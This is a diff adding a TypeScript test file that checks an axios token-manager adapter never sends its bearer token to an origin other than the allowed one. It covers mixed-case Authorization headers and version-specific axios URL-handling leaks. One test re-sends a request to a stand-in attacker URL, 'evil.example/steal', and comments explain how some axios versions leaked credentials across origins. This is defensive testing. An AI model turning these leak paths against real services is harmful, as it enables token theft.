@@ -1,0 +1,130 @@
+/**
+ * attachTokenManager(): the bearer goes only where the request is really sent, whatever the
+ * config carries (a re-sent response config, allowAbsoluteUrls, a URL object) and whatever
+ * casing other Authorization headers have.
+ */
+import http from 'node:http';
+import type { AddressInfo } from 'node:net';
+import axios from 'axios';
+import type { InternalAxiosRequestConfig } from 'axios';
+import axios16 from 'axios-1.6';
+import axiosOther from 'axios-other';
+import { attachTokenManager } from '../../src/adapters/axios';
+import { FakeTokenSource } from '../helpers/fake-token-source';
+import { startLocalApi } from './support/local-api';
+import type { LocalApi } from './support/local-api';
+
+const ALLOWED = 'https://api.alix.example';
+
+/** An axios transport that records the Authorization each request carried and answers 200. */
+function capturing(sent: Array<{ url: string; auth: string | null }>) {
+  return async (config: InternalAxiosRequestConfig) => {
+    sent.push({
+      url: axios.getUri(config),
+      auth: (config.headers.get('Authorization') as string | undefined) ?? null,
+    });
+    return { data: null, status: 200, statusText: 'OK', headers: {}, config };
+  };
+}
+
+describe('attachTokenManager(): a bearer of ours never leaves the allowed origins', () => {
+  it('does not carry the bearer to another origin when a response config is re-sent there', async () => {
+    const sent: Array<{ url: string; auth: string | null }> = [];
+    const api = axios.create({ baseURL: ALLOWED, adapter: capturing(sent) });
+    const detach = attachTokenManager(api, new FakeTokenSource('SECRET'));
+    const first = await api.get('/cards');
+    // e.g. following a Location header by hand, or a retry helper re-sending a config elsewhere
+    await api.request({ ...first.config, url: 'https://evil.example/steal' });
+    detach();
+    expect(sent).toEqual([
+      { url: `${ALLOWED}/cards`, auth: 'Bearer SECRET-0' },
+      { url: 'https://evil.example/steal', auth: null },
+    ]);
+  });
+});
+
+describe('attachTokenManager(): one Authorization line, whatever casing the user gave theirs', () => {
+  let origin: string;
+  let server: http.Server;
+  const lines: string[][] = [];
+  beforeAll(async () => {
+    server = http.createServer((req, res) => {
+      req.resume();
+      const auth: string[] = [];
+      for (let i = 0; i + 1 < req.rawHeaders.length; i += 2)
+        if (req.rawHeaders[i]?.toLowerCase() === 'authorization') auth.push(req.rawHeaders[i + 1] as string);
+      lines.push(auth);
+      res.writeHead(200).end('{}');
+    });
+    await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
+    origin = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
+  });
+  afterAll(async () => {
+    server.closeAllConnections();
+    await new Promise<void>((resolve) => server.close(() => resolve()));
+  });
+
+  it.each([
+    ['the peer axios', axios],
+    ['axios 1.6 (second copy)', axios16],
+    ['axios-other (second copy)', axiosOther],
+  ] as const)('%s: defaults and request set authorization/AUTHORIZATION', async (_name, copy) => {
+    lines.length = 0;
+    const api = (copy as typeof axios).create({ baseURL: origin, headers: { authorization: 'Basic ZGVm' } });
+    api.defaults.headers.common.AUTHORIZATION = 'Basic Y29tbW9u';
+    const detach = attachTokenManager(api, new FakeTokenSource('SECRET'));
+    await api.get('/a', { headers: { aUtHoRiZaTiOn: 'Basic cmVx' } });
+    await api.post('/b', 'x', { headers: { authorization: 'Basic cmVx' } });
+    detach();
+    expect(lines).toEqual([['Bearer SECRET-0'], ['Bearer SECRET-0']]);
+  });
+});
+
+describe('attachTokenManager(): allowAbsoluteUrls: false on axios 1.8.0-1.8.2 (inside the supported ^1.6.0)', () => {
+  let allowed: LocalApi;
+  let other: LocalApi;
+  beforeAll(async () => {
+    [allowed, other] = await Promise.all([startLocalApi(), startLocalApi()]);
+  });
+  afterAll(async () => {
+    await Promise.all([allowed.close(), other.close()]);
+  });
+
+  it('sends no bearer to an absolute url that the transport sends as it is while getUri() joins it', async () => {
+    // axios 1.8.0/1.8.1: Axios#getUri() passes allowAbsoluteUrls to buildFullPath, the http adapter does not
+    // (fixed in 1.8.2, axios/axios#6810; the fetch and xhr adapters in 1.8.3, #6814). Checked against a real
+    // install of axios 1.8.1 as a second copy: the bearer reached the other origin. Reproduced here with this
+    // axios's own http adapter fed the config as 1.8.1's adapter reads it.
+    const http = axios.getAdapter('http');
+    const api = axios.create({
+      baseURL: allowed.origin,
+      adapter: (config) => http({ ...config, allowAbsoluteUrls: undefined } as InternalAxiosRequestConfig),
+    });
+    const detach = attachTokenManager(api, new FakeTokenSource('SECRET'));
+    await api.get(`${other.origin}/absolute`, { allowAbsoluteUrls: false });
+    detach();
+    expect(other.seen).toEqual([{ path: '/absolute', auth: null }]);
+  });
+});
+
+describe('attachTokenManager(): a URL object as the request url', () => {
+  let allowed: LocalApi;
+  let other: LocalApi;
+  beforeAll(async () => {
+    [allowed, other] = await Promise.all([startLocalApi(), startLocalApi()]);
+  });
+  afterAll(async () => {
+    await Promise.all([allowed.close(), other.close()]);
+  });
+
+  it('axios 1.6: sends no bearer to the origin of a URL object url, which axios 1.6 sends as it is', async () => {
+    // axios 1.6's isAbsoluteURL() tests the URL object as a string, so it is sent to its own origin
+    // (new URL(url, 'http://localhost')), not joined to baseURL.
+    const api = axios16.create({ baseURL: allowed.origin });
+    const detach = attachTokenManager(api, new FakeTokenSource('SECRET'));
+    await api.get(new URL('/next-page', other.origin) as unknown as string);
+    detach();
+    expect(allowed.seen).toEqual([]);
+    expect(other.seen).toEqual([{ path: '/next-page', auth: null }]);
+  });
+});
